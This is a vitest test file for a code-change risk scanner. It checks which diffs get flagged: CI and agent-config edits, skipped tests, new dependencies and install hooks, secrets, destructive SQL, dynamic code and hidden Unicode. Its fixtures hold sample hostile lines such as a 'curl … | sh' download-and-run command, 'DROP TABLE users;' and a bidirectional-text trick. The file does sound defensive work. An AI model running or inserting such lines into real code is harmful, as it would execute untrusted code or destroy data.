import { expect, test } from 'vitest'
import type { ChangeFacts } from '../../../../src-main/chapters/rules/facts.ts'
import { neededPaths } from '../../../../src-main/chapters/rules/needed-paths.ts'
import { findRisks, riskRules } from '../../../../src-main/chapters/rules/risks/find-risks.ts'
import type { RiskKind } from '../../../../src-main/chapters/rules/risks/risk.ts'
import { factsOf, type FileSides } from '../../../helpers/change-facts.ts'

type Row = readonly [kind: RiskKind, path: string, file: Partial<FileSides>, expected: string | null]

const lock = (packages: Readonly<Record<string, object>>): string => JSON.stringify({ packages }, null, 2)
const left = { 'node_modules/left': { version: '1.0.0', resolved: 'https://registry.npmjs.org/left/-/left-1.0.0.tgz' } }
const manifest = (content: object): string => JSON.stringify(content, null, 2)

/** Apart from their call, because no test of this project may leave itself or others out. */
const [skip, only] = ['skip', 'only']

/** Hits say the level and line, misses null. */
const rows: readonly Row[] = [
  ['ci', '.github/workflows/ci.yml', { before: 'a\n', after: 'b\n' }, 'high 1'],
  ['ci', '.gitlab-ci.yml', { before: 'a\n', after: 'b\n' }, 'high 1'],
  ['ci', 'Jenkinsfile', { before: null, after: 'b\n' }, 'high 1'],
  ['ci', '.github/ISSUE_TEMPLATE.md', { before: 'a\n', after: 'b\n' }, null],
  ['ci', 'src/workflows/ci.ts', { before: 'a\n', after: 'b\n' }, null],
  ['agent_files', 'AGENTS.md', { before: 'a\n', after: 'b\n' }, 'high 1'],
  ['agent_files', 'sub/.mcp.json', { before: null, after: '{}\n' }, 'high 1'],
  ['agent_files', '.cursor/rules/a.mdc', { before: null, after: 'x\n' }, 'high 1'],
  ['agent_files', 'src/agents.md.ts', { before: 'a\n', after: 'b\n' }, null],
  ['agent_files', 'docs/agents/README.md', { before: 'a\n', after: 'b\n' }, null],
  ['attributes', '.gitattributes', { before: null, after: 'gen/** linguist-generated\n' }, 'high 1'],
  ['attributes', 'sub/.gitattributes', { before: null, after: '*.sh text eol=lf\n' }, 'low 1'],
  ['attributes', '.gitmodules', { before: null, after: '[submodule "a"]\n  url = ../a\n' }, 'high 1'],
  ['attributes', '.gitignore', { before: null, after: 'dist\n' }, null],
  ['tests_removed', 'test/a.test.ts', { before: "test('a', f)\ntest('b', f)\n", after: "test('b', f)\n" }, 'high 1'],
  ['tests_removed', 'test_a.py', { before: 'def test_a():\n    pass\n', after: null }, 'high null'],
  ['tests_removed', 'test/a.test.ts', { before: "test('a', f)\n", after: "test('a is b', f)\n" }, null],
  [
    'tests_removed',
    'a_test.go',
    { before: 'func TestA(t *testing.T) {\n', after: 'func TestB(t *testing.T) {\n' },
    null,
  ],
  ['tests_removed', 'src/a.ts', { before: "test('a', f)\n", after: null }, null],
  ['tests_removed', 'test/helper.ts', { before: 'export const a = 1\n', after: null }, null],
  ['tests_skipped', 'a.test.ts', { before: "test('a', f)\n", after: `test.${skip}('a', f)\n` }, 'high 1'],
  ['tests_skipped', 'a.test.ts', { before: "it('a', f)\n", after: `it.${only}('a', f)\n` }, 'high 1'],
  [
    'tests_skipped',
    'test_a.py',
    { before: 'def test_a(): x\n', after: '@pytest.mark.skip\ndef test_a(): x\n' },
    'high 1',
  ],
  ['tests_skipped', 'a_test.go', { before: '\n', after: '\tt.Skip("later")\n' }, 'high 1'],
  ['tests_skipped', 'a.test.ts', { before: `test.${skip}('a', f)\n`, after: `test.${skip}('a b', f)\n` }, null],
  ['tests_skipped', 'src/list.ts', { before: 'a\n', after: `it.${skip}(2)\n` }, null],
  ['tests_skipped', 'a.test.ts', { before: '\n', after: 'stream.skip(3)\n' }, null],
  ['assertions', 'a.test.ts', { before: 'expect(a).toBe(1)\nb()\n', after: 'b()\n' }, 'low 1'],
  ['assertions', 'a.test.ts', { before: 'expect(a).toBe(1)\n', after: 'expect(true).toBe(true)\n' }, 'high 1'],
  ['assertions', 'test_a.py', { before: '    assert a == 1\n', after: '    assert True\n' }, 'high 1'],
  ['assertions', 'a.test.ts', { before: 'expect(a).toBe(1)\n', after: 'expect(a).toBe(2)\n' }, null],
  ['assertions', 'src/a.ts', { before: 'assert(a)\n', after: 'b()\n' }, null],
  ['assertions', 'a.test.ts', { before: "test('a', () => {\n  expect(1)\n})\n", after: '\n' }, null],
  ['checks', 'src/a.ts', { before: 'a\n', after: '// @ts-ignore\na\n' }, 'low 1'],
  ['checks', 'a.py', { before: 'x = 1\n', after: 'x = 1  # noqa: E501\n' }, 'low 1'],
  ['checks', 'tsconfig.json', { before: '{"strict": true}\n', after: '{"strict": false}\n' }, 'low 1'],
  ['checks', 'src/a.ts', { before: '// @ts-ignore\na\n', after: '// @ts-ignore\nb\n' }, null],
  [
    'checks',
    'src/a.ts',
    { before: '// eslint-disable-next-line x\na\n', after: '// eslint-disable-next-line y\na\n' },
    null,
  ],
  ['checks', 'docs/eslint.md', { before: 'a\n', after: 'b\n' }, null],
  [
    'dependency',
    'package.json',
    { before: manifest({ dependencies: {} }), after: manifest({ dependencies: { left: '1.0.0' } }) },
    'low 3',
  ],
  [
    'dependency',
    'package.json',
    { before: manifest({}), after: manifest({ dependencies: { left: 'github:a/left' } }) },
    'high 3',
  ],
  ['dependency', 'requirements.txt', { before: 'a==1\n', after: 'a==1\nleft>=2\n' }, 'low 2'],
  ['dependency', 'go.mod', { before: 'module a\n', after: 'module a\nrequire example.com/left v1.2.0\n' }, 'low 2'],
  [
    'dependency',
    'package.json',
    { before: manifest({ dependencies: { left: '1.0.0' } }), after: manifest({ dependencies: { left: '1.0.1' } }) },
    null,
  ],
  ['dependency', 'requirements.txt', { before: 'left==1\n', after: 'left==2\n' }, null],
  ['dependency', 'package.json', { before: manifest({ name: 'a' }), after: manifest({ name: 'b' }) }, null],
  [
    'dependency',
    'package-lock.json',
    {
      before: lock(left),
      after: lock({ ...left, 'node_modules/odd': { version: '1.0.0', resolved: 'https://example.com/odd.tgz' } }),
    },
    'high 9',
  ],
  ['dependency', 'package-lock.json', { before: lock({}), after: lock(left) }, null],
  [
    'install_script',
    'package.json',
    { before: manifest({ scripts: { a: 'b' } }), after: manifest({ scripts: { a: 'b', postinstall: 'node x.js' } }) },
    'high 4',
  ],
  [
    'install_script',
    'package-lock.json',
    { before: lock({}), after: lock({ 'node_modules/a': { version: '1', hasInstallScript: true } }) },
    'high 5',
  ],
  [
    'install_script',
    'package.json',
    { before: manifest({ scripts: {} }), after: manifest({ scripts: { test: 'vitest' } }) },
    null,
  ],
  [
    'install_script',
    'package-lock.json',
    {
      before: lock({ 'node_modules/a': { version: '1', hasInstallScript: true } }),
      after: lock({ 'node_modules/a': { version: '2', hasInstallScript: true } }),
    },
    null,
  ],
  ['secret', 'src/a.ts', { before: '\n', after: "const key = 's3cr3t-1'\n" }, 'high 1'],
  ['secret', 'src/a.ts', { before: "const key = 's3cr3t-1'\n", after: "const key = env('KEY')\n" }, null],
  ['executable', 'run.sh', { before: 'a\n', after: 'a\n', new_mode: '100755', cause: 'mode' }, 'low null'],
  ['executable', 'bin/tool', { before: null, after: '', new_mode: '100755', cause: 'binary' }, 'high null'],
  ['executable', 'run.sh', { before: 'a\n', after: 'b\n', old_mode: '100755', new_mode: '100755' }, null],
  [
    'executable',
    'run.sh',
    { before: 'a\n', after: 'a\n', old_mode: '100755', new_mode: '100644', cause: 'mode' },
    null,
  ],
  ['migration', 'db/migrations/2.sql', { before: null, after: 'CREATE TABLE a (b int);\n' }, 'low 1'],
  ['migration', 'db/migrations/2.sql', { before: null, after: 'SELECT 1;\nDROP TABLE users;\n' }, 'high 2'],
  ['migration', 'db/migrations/2.sql', { before: null, after: 'DELETE FROM a WHERE b = 1;\n' }, 'low 1'],
  ['migration', 'db/migrations/2.sql', { before: 'CREATE TABLE a (b int);\n', after: null }, 'high null'],
  ['migration', 'src/drop-table.sql', { before: null, after: 'DROP TABLE users;\n' }, null],
  ['migration', 'migrations/README.md', { before: null, after: 'drop table\n' }, null],
  ['dynamic_code', 'src/a.ts', { before: '\n', after: 'return eval(text)\n' }, 'high 1'],
  ['dynamic_code', 'a.py', { before: '\n', after: 'exec(text)\n' }, 'high 1'],
  ['dynamic_code', 'a.py', { before: '\n', after: 'subprocess.run(c, shell=True)\n' }, 'high 1'],
  ['dynamic_code', 'setup.sh', { before: '\n', after: 'curl -s https://x.y/z | sh\n' }, 'high 1'],
  ['dynamic_code', 'A.vue', { before: '\n', after: '<p v-html="text" />\n' }, 'low 1'],
  ['dynamic_code', 'src/a.ts', { before: '\n', after: 'const found = pattern.exec(text)\n' }, null],
  ['dynamic_code', 'src/a.ts', { before: '\n', after: '// never eval(text)\n' }, null],
  ['dynamic_code', 'src/a.ts', { before: '\n', after: 'interval(3); retrieval(4); page.$eval(x)\n' }, null],
  ['dynamic_code', 'README.md', { before: '\n', after: 'curl x | sh\n' }, null],
  ['dynamic_code', 'src/a.ts', { before: 'eval(text)\n', after: 'parse(text)\n' }, null],
  ['hidden_text', 'src/a.ts', { before: '\n', after: 'if (a) { \u202e} begin admins only \u2066\n' }, 'high 1'],
  ['hidden_text', 'src/a.ts', { before: '\n', after: 'const a\u200b = 1\n' }, 'high 1'],
  ['hidden_text', 'src/a.ts', { before: '\n', after: 'const family = "👩‍👩‍👧 ü ☀️"\n' }, null],
  ['hidden_text', 'src/a.cs', { before: 'a\n', after: '\ufeffusing System;\n' }, null],
  ['conflict_markers', 'a.txt', { before: 'a\n', after: '<<<<<<< HEAD\na\n=======\nb\n>>>>>>> other\n' }, 'high 1'],
  ['conflict_markers', 'a.md', { before: 'a\n', after: 'Title\n=======\n' }, null],
  ['conflict_markers', 'a.sh', { before: 'a\n', after: 'cat <<<<<<< x\n' }, null],
  ['binary', 'lib/a.so', { before: null, after: '', cause: 'binary' }, 'high null'],
  ['binary', 'src/a.ts', { before: '', after: '', cause: 'binary' }, 'high null'],
  ['binary', 'data.bin2', { before: null, after: '', cause: 'binary' }, 'low null'],
  ['binary', 'logo.png', { before: null, after: '', cause: 'binary' }, null],
  ['binary', 'lib/a.so', { before: '', after: null, cause: 'binary' }, null],
  ['large', 'data.json', { before: null, after: '', cause: 'large' }, 'low null'],
  ['large', 'data.json', { before: '', after: null, cause: 'large' }, null],
  ['risky_path', 'src/auth/token.ts', { before: 'a\n', after: 'b\n' }, 'high 1'],
  ['risky_path', 'src/auth/deep/.hidden/x', { before: null, after: 'b\n' }, 'high 1'],
  ['risky_path', 'deep/down/x.pem', { before: 'a\n', after: null }, 'high null'],
  ['risky_path', 'moved.ts', { before: 'a\n', after: 'b\n', old_path: 'src/auth/moved.ts' }, 'high 1'],
  ['risky_path', 'src/authors.ts', { before: 'a\n', after: 'b\n' }, null],
  ['risky_path', 'other/src/auth/a.ts', { before: 'a\n', after: 'b\n' }, null],
  ['risky_path', 'x.pem.ts', { before: 'a\n', after: 'b\n' }, null],
  ['ignored_needed', 'src/a.ts', { before: '\n', after: "import { key } from './local.js'\n" }, 'high 1'],
  ['ignored_needed', 'src/a.ts', { before: '\n', after: "const read = open('data/sample.csv')\n" }, 'low 1'],
  ['ignored_needed', 'src/a.ts', { before: '\n', after: "import { x } from '../gen/client.js'\n" }, 'low 1'],
  ['ignored_needed', 'lib/b.py', { before: '\n', after: 'from . import local\n' }, 'high 1'],
  ['ignored_needed', 'src/a.ts', { before: '\n', after: "const output = 'gen/client.js'\n" }, null],
  ['ignored_needed', 'src/a.ts', { before: '\n', after: "import { key } from 'local.js'\n" }, null],
  ['ignored_needed', 'src/a.ts', { before: "import './local.js'\n", after: 'a\n' }, null],
  ['ignored_needed', 'README.md', { before: '\n', after: "See './data/sample.csv'\n" }, null],
]

const surroundings = { risky_paths: ['src/auth', '*.pem'] }
/** Of the paths that lines need, these exist and are ignored. */
const ignoredFiles: Readonly<Record<string, 'file' | 'folder'>> = {
  'src/local.ts': 'file',
  'data/sample.csv': 'file',
  'lib/local.py': 'file',
  'gen/client.js': 'folder',
}

function withIgnored(facts: ChangeFacts): ChangeFacts {
  const found = neededPaths(facts.files).flatMap(({ candidates, ...need }) => {
    const place = candidates.map((path) => ignoredFiles[path]).find((one) => one !== undefined)
    return place ? [{ ...need, place }] : []
  })
  return { ...facts, ignored: Map.groupBy(found, ({ hunk }) => hunk.path) }
}

test.each(rows)('%s in %s, row %$', (kind, path, { before = null, after = null, ...more }, expected) => {
  const facts = withIgnored(factsOf({ [path]: { before, after, ...more } }, surroundings))
  const found = findRisks(facts).filter((risk) => risk.kind === kind)
  expect(found[0] ? `${found[0].level} ${String(found[0].line)}` : null).toBe(expected)
})

test('has hits and misses for every kind', () => {
  for (const kind of Object.keys(riskRules)) {
    const outcomes = rows.filter(([of]) => of === kind).map(([, , , expected]) => expected !== null)
    expect(new Set(outcomes), kind).toEqual(new Set([true, false]))
  }
})

test('names the licence of a new package, where the lock file does', () => {
  const before = manifest({ dependencies: {} })
  const risks = findRisks(
    factsOf({
      'package.json': { before, after: manifest({ dependencies: { left: '^1.0.0' } }) },
      'package-lock.json': {
        before: lock({}),
        after: lock({ 'node_modules/left': { version: '1.0.0', license: 'MIT' } }),
      },
    }),
  )
  expect(risks.map(({ text }) => text)).toEqual(['The package “left” is new, under MIT.'])
})

test('finds nothing in an ordinary change', () => {
  const files = {
    'src/add.ts': {
      before: 'export const add = (a: number) => a\n',
      after: 'export const add = (a: number, b: number) => a + b\n',
    },
    'test/add.test.ts': { before: 'expect(add(1)).toBe(1)\n', after: 'expect(add(1, 2)).toBe(3)\n' },
    'docs/add.md': { before: 'Adds.\n', after: 'Adds two numbers.\n' },
    'src/new.ts': { before: null, after: 'export function run() {\n  return start()\n}\n' },
  }
  expect(findRisks(factsOf(files))).toEqual([])
})
